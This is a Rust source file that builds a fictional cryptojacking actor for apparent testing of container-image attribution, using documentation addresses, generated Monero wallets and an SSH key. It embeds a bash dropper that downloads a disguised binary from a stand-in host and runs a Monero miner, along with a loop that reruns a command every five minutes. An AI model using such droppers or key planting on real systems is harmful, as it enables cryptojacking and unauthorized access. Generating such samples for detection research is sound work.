//! The made-up actor behind the malicious images: its hosts, wallets, key and shared scripts, and
//! which images each of them ties together.
//!
//! Addresses are from the blocks for documentation (RFC 5737), names from `.invalid` (RFC 2606).

use anyhow::Result;

use super::keys;

/// Takes the shells of the first batch.
pub const SHELL_A: &str = "203.0.113.77";
/// Takes the shells of the second batch.
pub const SHELL_B: &str = "203.0.113.141";
/// Takes the shells of the third batch.
pub const SHELL_C: &str = "update-mirror.example.invalid";
/// Serves the first miners.
pub const DROP_A: &str = "198.51.100.23";
/// Serves later ones.
pub const DROP_B: &str = "192.0.2.146";
/// Serves the last ones.
pub const DROP_C: &str = "cdn-assets.example.invalid";
/// A pool of its own.
pub const POOL_A: &str = "198.51.100.61:7777";
/// A public pool.
pub const POOL_B: &str = "xmr-eu.example.invalid:3333";

/// Everything that is in more than one image, and the two wallets.
pub struct Actor {
    /// First wallet.
    pub wallet_a: String,
    /// Second wallet.
    pub wallet_b: String,
    /// The line for `authorized_keys`; its comment names [`DROP_A`].
    pub key: String,
}

impl Actor {
    /// Made from fixed phrases.
    ///
    /// # Errors
    /// If an address cannot be encoded.
    pub fn new() -> Result<Self> {
        Ok(Self {
            wallet_a: keys::monero("bilgewatch example wallet a")?,
            wallet_b: keys::monero("bilgewatch example wallet b")?,
            key: keys::ssh("bilgewatch example key", &format!("root@{DROP_A}")),
        })
    }

    /// Replaces `@NAME@` in a script.
    pub fn fill(&self, text: &str) -> String {
        let names = [
            ("@SHELL_A@", SHELL_A),
            ("@SHELL_B@", SHELL_B),
            ("@SHELL_C@", SHELL_C),
            ("@DROP_A@", DROP_A),
            ("@DROP_B@", DROP_B),
            ("@DROP_C@", DROP_C),
            ("@POOL_A@", POOL_A),
            ("@POOL_B@", POOL_B),
            ("@WALLET_A@", &self.wallet_a),
            ("@WALLET_B@", &self.wallet_b),
            ("@KEY@", &self.key),
        ];
        names.iter().fold(text.to_owned(), |text, (name, value)| {
            text.replace(name, value)
        })
    }

    /// The miner's start, the same file in two images under two names.
    pub fn start_miner(&self) -> String {
        self.fill(START_MINER)
    }

    /// What ties which images together: value, kind, images.
    pub fn ties(&self) -> Vec<Tie> {
        let tie = |value: &str, kind, images: &[&'static str]| Tie {
            value: value.to_owned(),
            kind,
            images: images.to_vec(),
        };
        vec![
            tie(SHELL_A, "host", &["tomcat", "tomcat11", "cronnn", "mysql5"]),
            tie(SHELL_B, "host", &["t1", "t2", "data"]),
            tie(SHELL_C, "host", &["cronm", "mysql2"]),
            tie(
                DROP_A,
                "host, and comment of the key",
                &["kk", "mysql", "tomcat22"],
            ),
            tie(DROP_B, "host", &["data", "cron"]),
            tie(DROP_C, "host", &["mysql0", "mysql3", "mysql4", "mysql6"]),
            tie(POOL_A, "pool", &["kk", "mysql4"]),
            tie(POOL_B, "pool", &["mysql0", "mysql3", "mysql5"]),
            tie(
                &self.wallet_a,
                "wallet",
                &["mysql0", "mysql3", "cron", "mysql5"],
            ),
            tie(&self.wallet_b, "wallet", &["mysql4", "mysql6"]),
            tie(
                &self.start_miner(),
                "script, under two names",
                &["mysql0", "mysql3"],
            ),
            tie(KEEP, "script, under two names", &["cronm", "mysql6"]),
        ]
    }
}

/// Something that several images share.
pub struct Tie {
    /// The host, wallet or script itself.
    pub value: String,
    /// What it is.
    pub kind: &'static str,
    /// Images that carry it, without the account.
    pub images: Vec<&'static str>,
}

/// Runs a command again and again, as the campaign's containers did every five minutes.
pub const KEEP: &str = r#"#!/bin/bash
while true; do
    "$@"
    sleep 300
done
"#;

const START_MINER: &str = r"#!/bin/bash
cd /var/tmp || cd /tmp
if ! pgrep -x jaav >/dev/null; then
    curl -s -o jaav http://@DROP_C@/gcc.jpg
    chmod 777 jaav
    nohup ./jaav -a cryptonight -o stratum+tcp://@POOL_B@ -u @WALLET_A@ -p x -t $(nproc) >/dev/null 2>&1 &
fi
sleep infinity
";
